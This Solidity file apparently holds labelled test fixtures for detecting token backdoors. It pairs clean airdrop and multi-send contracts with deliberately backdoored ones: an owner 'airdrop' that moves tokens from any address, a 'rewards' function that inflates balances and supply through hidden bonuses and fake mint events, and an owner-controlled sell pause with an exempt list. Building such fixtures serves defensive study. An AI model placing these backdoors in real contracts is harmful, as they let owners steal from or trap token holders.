// SPDX-License-Identifier: MIT
// Family F18 (round 2): airdrop and distribution helpers built into 2021-2022 tokens: multi-send from
// one's own balance, owner "airdrops", and balance credits that raise the supply under another name.
pragma solidity ^0.8.0;

import "../vendor/oz-4.9.6/token/ERC20/ERC20.sol";
import "../vendor/oz-4.9.6/access/Ownable.sol";

/** Clean: anyone sends their own tokens to many recipients at once. */
contract DistMultiSend is ERC20, Ownable {
    constructor() ERC20("Dist", "DST") { _mint(msg.sender, 1e9 ether); }
    function multiTransfer(address[] calldata to, uint256[] calldata amounts) external {
        require(to.length == amounts.length, "length");
        for (uint256 i = 0; i < to.length; i++) _transfer(msg.sender, to[i], amounts[i]);
    }
}

/** Backdoor: the owner "airdrops" from any address it names to a list of recipients. */
contract DistAirdropFrom is ERC20, Ownable {
    constructor() ERC20("Dist", "DST") { _mint(msg.sender, 1e9 ether); }
    function airdrop(address from, address[] calldata to, uint256 amount) external onlyOwner {
        for (uint256 i = 0; i < to.length; i++) _transfer(from, to[i], amount);
    }
}

/** Backdoor: "distribute rewards" credits balances from nothing and raises the supply (no cap, no mint name). */
contract DistRewardCredit is ERC20, Ownable {
    mapping(address => uint256) private _bonus;
    uint256 private _bonusTotal;
    constructor() ERC20("Dist", "DST") { _mint(msg.sender, 1e9 ether); }
    function distributeRewards(address[] calldata holders, uint256 amount) external onlyOwner {
        for (uint256 i = 0; i < holders.length; i++) {
            _bonus[holders[i]] += amount;
            _bonusTotal += amount;
            emit Transfer(address(0), holders[i], amount);
        }
    }
    function balanceOf(address account) public view override returns (uint256) {
        return super.balanceOf(account) + _bonus[account];
    }
    function totalSupply() public view override returns (uint256) {
        return super.totalSupply() + _bonusTotal;
    }
}

/** Clean: a fixed airdrop reserve held by the contract, claimable once per listed address, never refilled. */
contract DistReserveClaim is ERC20, Ownable {
    mapping(address => uint256) public claimable;
    constructor() ERC20("Dist", "DST") {
        _mint(msg.sender, 9e8 ether);
        _mint(address(this), 1e8 ether);
    }
    function setClaimable(address[] calldata who, uint256 amount) external onlyOwner {
        for (uint256 i = 0; i < who.length; i++) claimable[who[i]] = amount;
    }
    function claim() external {
        uint256 amount = claimable[msg.sender];
        claimable[msg.sender] = 0;
        _transfer(address(this), msg.sender, amount);
    }
}

/** Backdoor: a pause of sells only, for everyone except the owner's list, the owner can switch back on. */
contract DistSellPause is ERC20, Ownable {
    address public pair;
    bool public sellsPaused;
    mapping(address => bool) public exempt;
    constructor() ERC20("Dist", "DST") {
        exempt[msg.sender] = true;
        _mint(msg.sender, 1e9 ether);
    }
    function setPair(address p) external onlyOwner { pair = p; }
    function setSellsPaused(bool v) external onlyOwner { sellsPaused = v; }
    function setExempt(address a, bool v) external onlyOwner { exempt[a] = v; }
    function _beforeTokenTransfer(address from, address to, uint256) internal view override {
        if (to == pair && !exempt[from]) require(!sellsPaused, "sells paused");
    }
}
